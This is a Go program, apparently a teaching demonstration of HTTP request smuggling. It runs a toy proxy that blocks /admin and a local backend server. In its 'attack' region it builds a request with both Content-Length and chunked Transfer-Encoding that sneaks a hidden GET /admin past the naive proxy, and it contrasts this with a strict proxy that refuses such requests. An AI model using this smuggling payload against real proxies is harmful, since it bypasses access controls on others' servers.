package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/textproto"
	"strconv"
	"strings"
	"time"
)

// #region front
// A front is a proxy that refuses /admin and sends all that it accepts over
// one connection to the server behind it. It finds the end of a request by
// Content-Length alone. A strict one refuses a request with both framings.
type front struct {
	strict  bool
	back    net.Conn
	answers *bufio.Reader
}

func (f *front) handle(client *bufio.Reader) (string, error) {
	r := textproto.NewReader(client)
	line, err := r.ReadLine()
	if err != nil {
		return "", err
	}
	h, err := r.ReadMIMEHeader()
	if err != nil {
		return "", err
	}
	if strings.Contains(line, " /admin") {
		return "403, by the front", nil
	}
	if f.strict && h.Get("Content-Length") != "" && h.Get("Transfer-Encoding") != "" {
		return "400, by the front", nil
	}
	length, _ := strconv.Atoi(h.Get("Content-Length"))
	body := make([]byte, length)
	if _, err := io.ReadFull(client, body); err != nil {
		return "", err
	}
	fmt.Fprintf(f.back, "%s\r\n", line)
	http.Header(h).Write(f.back)
	fmt.Fprintf(f.back, "\r\n%s", body)

	res, err := http.ReadResponse(f.answers, nil)
	if err != nil {
		return "", err
	}
	text, err := io.ReadAll(res.Body)
	return fmt.Sprintf("%d %s", res.StatusCode, text), err
}

// #endregion front

// #region attack
const hidden = "GET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n"

// To a reader of chunks the body ends before hidden.
var attack = "POST /search HTTP/1.1\r\nHost: shop.example\r\n" +
	fmt.Sprintf("Content-Length: %d\r\n", len("0\r\n\r\n")+len(hidden)) +
	"Transfer-Encoding: chunked\r\n\r\n" +
	"0\r\n\r\n" + hidden

// #endregion attack

func smuggle() error {
	for _, strict := range []bool{false, true} {
		name := map[bool]string{false: "naive", true: "strict"}[strict]
		fmt.Printf("# #region %s\n%s front\n", name, name)
		if err := through(strict); err != nil {
			return err
		}
		fmt.Printf("# #endregion %s\n", name)
	}
	return nil
}

func through(strict bool) error {
	seen := make(chan string, 9)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen <- r.Method + " " + r.URL.Path
		io.WriteString(w, "this is "+r.URL.Path)
	})}
	addr, err := start(srv)
	if err != nil {
		return err
	}
	defer srv.Close()
	back, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	defer back.Close()
	// A server that waits for the rest of a request must not stop the program.
	if err := back.SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
		return err
	}

	f := &front{strict: strict, back: back, answers: bufio.NewReader(back)}
	for _, t := range []struct{ who, text string }{
		{"attacker GET /admin ", hidden},
		{"attacker POST /search", attack},
		{"customer GET /cart   ", "GET /cart HTTP/1.1\r\nHost: shop.example\r\n\r\n"},
	} {
		answer, err := f.handle(bufio.NewReader(strings.NewReader(t.text)))
		if err != nil {
			return err
		}
		fmt.Printf("%-22s -> %s\n", t.who, answer)
	}
	// No more requests: the server handles what it has, and closes.
	if err := back.(*net.TCPConn).CloseWrite(); err != nil {
		return err
	}
	if _, err := io.Copy(io.Discard, f.answers); err != nil {
		return err
	}
	close(seen)
	for request := range seen {
		fmt.Println("server behind it handled:", request)
	}
	return nil
}
